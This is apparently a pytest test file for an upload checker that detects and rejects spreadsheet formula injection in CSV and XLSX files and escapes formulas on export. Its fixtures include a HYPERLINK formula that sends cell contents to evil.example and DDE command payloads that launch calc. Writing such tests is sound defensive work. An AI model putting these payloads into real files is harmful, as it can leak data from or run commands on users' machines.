"""Formula injection: uploads with cells a spreadsheet could run are refused; our own exports are escaped."""

from __future__ import annotations

import io

import pytest

from careinspect.safefiles import (
    MB,
    Cell,
    RejectionCode,
    UploadRejected,
    check_upload,
    find_formula_cells,
    looks_like_formula,
    neutralise_for_export,
)

from . import builders

CSV_ATTACK = (
    b'Name,Link,Notes\r\n"A. Smith","=HYPERLINK(""https://evil.example/?""&A1,""Click"")",ok\r\n'
    b"B. Jones,+cmd|' /C calc'!A0,@SUM(1+1)*cmd\r\n"
)


def test_csv_formula_cells_found_with_their_positions() -> None:
    cells = find_formula_cells("csv", CSV_ATTACK)
    assert [(c.row, c.column, c.reference) for c in cells] == [(2, 2, "B2"), (3, 2, "B3"), (3, 3, "C3")]
    assert cells[0].value.startswith("=HYPERLINK(")


def test_csv_with_formula_cells_rejected_listing_them() -> None:
    with pytest.raises(UploadRejected) as caught:
        check_upload("carers.csv", CSV_ATTACK, allowed={"csv"}, max_bytes=MB)
    error = caught.value
    assert error.code is RejectionCode.FORMULA_CELLS
    assert "“carers.csv” has 3 cells" in error.message
    assert "B2 “=HYPERLINK(" in error.message and "B3 “+cmd" in error.message and "C3 “@SUM" in error.message
    assert len(error.cells) == 3


@pytest.mark.parametrize(
    "value", ["-12", "-3.5", "+7", "-1,234.50", "2024-03-01", "-05:00", "+44 20 7946 0000", "-", ""]
)
def test_negative_numbers_dates_and_phone_numbers_not_flagged(value: str) -> None:
    assert not looks_like_formula(value)


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1",
        "- see notes",
    ],
)
def test_formula_starts_flagged(value: str) -> None:
    assert looks_like_formula(value)


def test_csv_of_negative_numbers_accepted() -> None:
    data = b"Month,Change,Date\r\nJan,-12,2024-01-31\r\nFeb,-3.5,2024-02-29\r\n"
    assert check_upload("changes.csv", data, allowed={"csv"}, max_bytes=MB).kind == "csv"


def test_semicolon_separated_csv_checked_cell_by_cell() -> None:
    cells = find_formula_cells("csv", b'Name;Link\r\nA. Smith;=HYPERLINK("x")\r\nB. Jones;ok\r\n')
    assert [c.reference for c in cells] == ["B2"]


def test_xlsx_real_formula_rejected() -> None:
    data = builders.xlsx([("Carers", "Total"), (3, "=SUM(A2:A2)")])
    assert find_formula_cells("xlsx", data) == [Cell("Register", 2, 2, "=SUM(A2:A2)")]
    with pytest.raises(UploadRejected) as caught:
        check_upload("register.xlsx", data, allowed={"xlsx"}, max_bytes=MB)
    assert caught.value.code is RejectionCode.FORMULA_CELLS
    assert "'Register'!B2 “=SUM(A2:A2)”" in caught.value.message


def test_xlsx_text_cell_starting_like_a_formula_found() -> None:
    data = builders.xlsx([("Notes",), ("@cmd",), (-12,), ("-12",)])
    assert [c.reference for c in find_formula_cells("xlsx", data)] == ["'Register'!A2"]


def test_formula_message_shows_first_twenty_and_counts_all() -> None:
    data = ("Value\r\n" + "".join(f"=A{n}\r\n" for n in range(25))).encode()
    with pytest.raises(UploadRejected) as caught:
        check_upload("many.csv", data, allowed={"csv"}, max_bytes=MB)
    message = caught.value.message
    assert "has 25 cells" in message and "A21 “=A19”" in message and "A22" not in message
    assert "and 5 more" in message
    assert len(caught.value.cells) == 25


def test_find_formula_cells_only_for_spreadsheets() -> None:
    with pytest.raises(ValueError, match="csv or xlsx"):
        find_formula_cells("pdf", builders.PDF)


@pytest.mark.parametrize(
    ("value", "escaped"),
    [('=HYPERLINK("x")', '\'=HYPERLINK("x")'), ("+cmd", "'+cmd"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1")],
)
def test_neutralise_for_export_prefixes_formulas(value: str, escaped: str) -> None:
    assert neutralise_for_export(value) == escaped


@pytest.mark.parametrize("value", ["-12", "-3.5", "1e5", "Good", "2024-01-05", ""])
def test_neutralise_for_export_leaves_numbers_and_text(value: str) -> None:
    assert neutralise_for_export(value) == value


def test_csv_uploaded_as_a_stream_is_scanned_too() -> None:
    with pytest.raises(UploadRejected) as caught:
        check_upload("carers.csv", io.BytesIO(CSV_ATTACK), allowed={"csv"}, max_bytes=MB)
    assert caught.value.code is RejectionCode.FORMULA_CELLS
